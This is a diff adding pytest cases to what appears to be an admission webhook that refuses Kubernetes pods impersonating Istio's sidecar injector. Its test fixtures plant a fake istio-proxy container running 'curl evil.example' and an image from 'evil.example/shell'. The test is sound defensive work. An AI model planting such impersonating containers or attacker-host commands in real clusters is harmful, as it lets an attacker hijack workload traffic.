@@ -210,3 +210,54 @@ def test_other_kinds_are_not_patched() -> None:
         "spec": {},
     }
     assert mutate(review(manifest), BANZAI) == Mutation()
+
+
+# --- Pods before injection ---------------------------------------------------------------------
+
+STATUS = json.dumps({"containers": ["decoy"], "initContainers": None})
+
+
+def bare_pod(annotations: dict[str, str] | None = None, *extra: dict[str, Any]) -> dict:
+    return {
+        "apiVersion": "v1",
+        "kind": "Pod",
+        "metadata": {"name": "p", "namespace": "test-app", "annotations": annotations or {}},
+        "spec": {"containers": [{"name": "app", "image": "curl"}, *extra]},
+    }
+
+
+@pytest.mark.parametrize(
+    ("manifest", "mark"),
+    [
+        # a decoy status: the injector then merges the Pod's own istio-proxy over its own
+        # (command, image, user) and writes a status naming it, recording no override
+        (
+            bare_pod(
+                {"sidecar.istio.io/status": STATUS},
+                {"name": "istio-proxy", "command": ["sh", "-c", "curl evil.example"]},
+            ),
+            "annotation sidecar.istio.io/status",
+        ),
+        (bare_pod({"proxy.istio.io/overrides": '{"containers": []}'}), "proxy.istio.io/overrides"),
+        (bare_pod(None, {"name": "istio-proxy", "image": "evil.example/shell"}), "'istio-proxy'"),
+        (bare_pod(None, {"name": "istio-init", "image": "busybox"}), "'istio-init'"),
+    ],
+)
+def test_pod_arriving_with_the_injectors_marks_is_refused(manifest: dict, mark: str) -> None:
+    mutation = mutate(review(manifest), BANZAI)
+    assert mutation.refusal and mark in mutation.refusal
+    assert mutation.patch == ()
+
+
+def test_plain_pods_and_istiods_gateway_pods_pass_before_injection() -> None:
+    assert mutate(review(bare_pod()), BANZAI) == Mutation()
+    gateway = bare_pod(None)
+    gateway["metadata"]["labels"] = {"gateway.networking.k8s.io/gateway-name": "web"}
+    gateway["spec"]["containers"] = [{"name": "istio-proxy", "args": ["proxy", "router"]}]
+    assert mutate(review(gateway), BANZAI) == Mutation()
+
+
+def test_pods_of_excluded_namespaces_are_left_alone() -> None:
+    manifest = bare_pod({"sidecar.istio.io/status": STATUS})
+    manifest["metadata"]["namespace"] = "istio-system"
+    assert mutate(review(manifest), BANZAI) == Mutation()
